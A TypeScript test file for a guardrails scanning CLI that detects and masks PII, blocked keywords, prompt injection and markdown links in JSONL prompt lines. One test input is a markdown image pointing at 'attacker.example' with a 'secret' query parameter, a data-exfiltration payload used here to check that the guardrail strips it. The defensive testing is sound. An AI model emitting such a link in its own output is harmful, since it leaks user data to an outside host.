import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { builtInRunner, type ScanError, type ScanResult, scanLines, tableRow, textOfLine } from './guardrail-scan.js';
import { runCli } from './test-support/run-cli.js';

const lines = [
  JSON.stringify({ text: 'Please email jane.doe@example.com about card 4111 1111 1111 1111.' }),
  'not json',
  JSON.stringify({ prompt: 'no text field' }),
  '',
  JSON.stringify({ text: 'See ![chart](https://attacker.example/?q=secret) for details.' }),
];

async function scan(stage: 'input' | 'output', input: string[]): Promise<{ results: Array<ScanResult | ScanError>; failed: number }> {
  const results: Array<ScanResult | ScanError> = [];
  const failed = await scanLines(Readable.from(input.join('\n')), { runner: builtInRunner(stage), stage, write: (result) => results.push(result) });
  return { results, failed };
}

describe('guardrails scan (library)', () => {
  it('writes one verdict per line with typed findings and [start, end) offsets into the line, and the masked text', async () => {
    const { results, failed } = await scan('input', lines);
    expect(failed).toBe(2);
    expect(results.map((result) => result.line)).toEqual([1, 2, 3, 5]);
    const first = results[0] as ScanResult;
    const text = (JSON.parse(lines[0]!) as { text: string }).text;
    expect(first.action).toBe('mask');
    expect(first.findings.map((finding) => [finding.type, text.slice(finding.start, finding.end)])).toEqual([
      ['EMAIL', 'jane.doe@example.com'],
      ['CREDIT_CARD', '4111 1111 1111 1111'],
    ]);
    expect(first.masked).not.toContain('jane.doe');
    expect(first.injection?.verdict).toBe('allow');
    expect(results[1]).toEqual({ line: 2, error: 'not valid JSON' });
    expect(results[2]).toEqual({ line: 3, error: 'no "text" string field' });
  });

  it('adds the markdown link guardrail on the output stage', async () => {
    const { results } = await scan('output', [lines[4]!]);
    const result = results[0] as ScanResult;
    expect(result.findings.some((finding) => finding.guardrail === 'markdown_links' && finding.type === 'markdown_image')).toBe(true);
    expect(result.masked).toBe('See chart for details.');
  });

  it('renders a readable row per line', () => {
    const row = tableRow({ line: 7, action: 'mask', findings: [{ guardrail: 'pii', type: 'EMAIL', start: 3, end: 10 }], injection: { score: 0.12, verdict: 'allow' }, masked: 'hi [EMAIL_1]\nbye', verdicts: [] });
    expect(row).toMatch(/^\s+7 {2}mask {4}0\.12 allow\s+EMAIL\[3,10\)\s+hi \[EMAIL_1\] bye$/);
    expect(tableRow({ line: 2, error: 'not valid JSON' })).toMatch(/^\s+2 {2}error .* not valid JSON$/);
  });

  it('reads only a JSON object with a text string', () => {
    expect(textOfLine('{"text": "x"}')).toEqual({ text: 'x' });
    expect(textOfLine('[1]')).toEqual({ error: 'not a JSON object' });
    expect(textOfLine('{"text": 3}')).toEqual({ error: 'no "text" string field' });
  });
});

// Each case starts a real CLI process through tsx (seconds each on a loaded 2-core machine).
describe('cairn guardrails scan (process)', { timeout: 90_000 }, () => {
  let directory: string;
  let server: Server;
  let host: string;
  const requests: string[] = [];

  beforeAll(async () => {
    directory = mkdtempSync(path.join(tmpdir(), 'cairn-scan-'));
    // A stand-in for the Cairn API: the endpoint view with its ai_gateway config.
    server = createServer((request, response) => {
      requests.push(`${request.method} ${request.url} ${request.headers.authorization ?? ''}`);
      response.setHeader('content-type', 'application/json');
      if (request.url === '/api/2.0/serving-endpoints/support-bot') {
        response.end(
          JSON.stringify({
            name: 'support-bot',
            ai_gateway: {
              guardrails: {
                input: {
                  invalid_keywords: ['project nightingale'],
                  pii: { behavior: 'BLOCK' },
                  custom: [{ type: 'webhook', name: 'moderation', url: 'https://hooks.example.com/x', auth_secret: '{{secrets/ops/hook}}' }],
                },
              },
            },
          }),
        );
        return;
      }
      response.statusCode = 404;
      response.end(JSON.stringify({ error_code: 'RESOURCE_DOES_NOT_EXIST', message: 'Endpoint nope does not exist.' }));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    host = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });

  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve));
    rmSync(directory, { recursive: true, force: true });
  });

  it.concurrent("scans with an endpoint's configured guardrails, --json, exit 1 on bad lines", async ({ expect }) => {
    const file = path.join(directory, 'endpoint.jsonl');
    writeFileSync(file, [JSON.stringify({ text: 'Tell me about Project  Nightingale' }), JSON.stringify({ text: 'mail me: a.b@example.org' }), JSON.stringify({ text: 'hello' }), '{"broken"'].join('\n'));
    const result = await runCli(['guardrails', 'scan', file, '--endpoint', 'support-bot', '--json'], { CAIRN_HOST: host, CAIRN_TOKEN: 'token-1' });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('skipping webhook guardrail moderation');
    expect(result.stderr).toContain('1 line could not be scanned');
    const rows = result.stdout.trim().split('\n').map((line) => JSON.parse(line) as ScanResult & ScanError);
    expect(rows.map((row) => row.action ?? 'error')).toEqual(['block', 'block', 'allow', 'error']);
    expect(rows[0]!.blocked_by).toBe('invalid_keywords');
    expect(rows[1]!.blocked_by).toBe('pii');
    expect(rows[1]!.findings[0]).toMatchObject({ type: 'EMAIL', start: 9, end: 24 });
    expect(requests).toContain('GET /api/2.0/serving-endpoints/support-bot Bearer token-1');
  });

  it.concurrent('scans with the built-in detectors by default and prints a table, exit 0 when every line scanned', async ({ expect }) => {
    const file = path.join(directory, 'plain.jsonl');
    writeFileSync(file, `${JSON.stringify({ text: 'call +44 20 7946 0958 please' })}\n`);
    const result = await runCli(['guardrails', 'scan', file]);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    const [header, row] = result.stdout.trim().split('\n');
    expect(header).toMatch(/LINE\s+ACTION\s+INJECTION\s+FINDINGS\s+TEXT/);
    expect(row).toMatch(/^\s+1 {2}mask .*PHONE\[5,21\).*call \[PHONE_1\] please$/);
  });

  it.concurrent('reports an unknown endpoint, a missing file and a bad --stage clearly', async ({ expect }) => {
    const missing = await runCli(['guardrails', 'scan', path.join(directory, 'none.jsonl')]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('no such file');
    const stage = await runCli(['guardrails', 'scan', 'x.jsonl', '--stage', 'middle']);
    expect(stage.code).toBe(2);
    expect(stage.stderr).toContain('--stage must be input or output');
    const unknown = await runCli(['guardrails', 'scan', path.join(directory, 'none.jsonl'), '--endpoint', 'nope'], { CAIRN_HOST: host, CAIRN_TOKEN: 't' });
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain('Endpoint nope does not exist.');
  });
});
